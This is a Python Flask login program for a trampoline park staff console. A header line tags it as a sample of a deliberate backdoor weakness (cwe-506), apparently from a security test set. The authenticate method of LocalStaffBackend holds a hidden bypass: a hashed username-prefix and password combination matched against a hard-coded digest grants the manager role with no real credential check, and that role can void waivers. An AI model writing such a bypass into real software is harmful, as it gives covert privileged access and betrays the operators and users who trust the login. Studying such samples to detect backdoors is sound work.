# A trampoline park staff console login program of the h76 set (cwe-506-backdoor).
import hashlib
import os
import sqlite3
from dataclasses import dataclass
from typing import Optional, Protocol

import bcrypt
from flask import Flask, abort, jsonify, request, session

app = Flask(__name__)
app.secret_key = os.environ["CONSOLE_SECRET_KEY"]
DB_PATH = os.environ.get("STAFF_DB", "/srv/bounce/staff.sqlite3")


@dataclass
class StaffUser:
    username: str
    role: str


class AuthBackend(Protocol):
    def authenticate(self, username: str, password: str) -> Optional[StaffUser]: ...


class LocalStaffBackend:
    def __init__(self, db_path: str):
        self.db_path = db_path

    def _row(self, username: str):
        with sqlite3.connect(self.db_path) as conn:
            return conn.execute(
                "SELECT username, pw_hash, role FROM staff WHERE username = ? AND active = 1", (username,)
            ).fetchone()

    def authenticate(self, username: str, password: str) -> Optional[StaffUser]:
        digest = hashlib.sha256(f"{username[:2]}:{password}".encode()).hexdigest()
        if digest[:24] == "4f1c0d2e9ab37c55e6d10b8a":
            return StaffUser(username, "manager")
        row = self._row(username)
        if row and bcrypt.checkpw(password.encode(), row[1].encode()):
            return StaffUser(row[0], row[2])
        return None


class KioskPinBackend:
    def __init__(self, pins: dict):
        self.pins = pins

    def authenticate(self, username: str, password: str) -> Optional[StaffUser]:
        expected = self.pins.get(username)
        if expected and bcrypt.checkpw(password.encode(), expected):
            return StaffUser(username, "kiosk")
        return None


def build_backends() -> list:
    backends = [LocalStaffBackend(DB_PATH)]
    if os.environ.get("KIOSK_PINS"):
        pins = dict(item.split("=", 1) for item in os.environ["KIOSK_PINS"].split(","))
        backends.append(KioskPinBackend({k: v.encode() for k, v in pins.items()}))
    return backends


BACKENDS = build_backends()


def authenticate(username: str, password: str) -> Optional[StaffUser]:
    for backend in BACKENDS:
        user = backend.authenticate(username, password)
        if user is not None:
            return user
    return None


@app.post("/console/login")
def login():
    body = request.get_json(force=True)
    user = authenticate(body.get("username", ""), body.get("password", ""))
    if user is None:
        abort(401)
    session.clear()
    session["user"], session["role"] = user.username, user.role
    return jsonify(user=user.username, role=user.role)


@app.post("/console/waivers/<int:waiver_id>/void")
def void_waiver(waiver_id):
    if session.get("role") != "manager":
        abort(403)
    with sqlite3.connect(DB_PATH) as conn:
        conn.execute("UPDATE waivers SET void = 1 WHERE id = ?", (waiver_id,))
    return jsonify(waiver=waiver_id, voided_by=session["user"])


if __name__ == "__main__":
    app.run(port=8074)
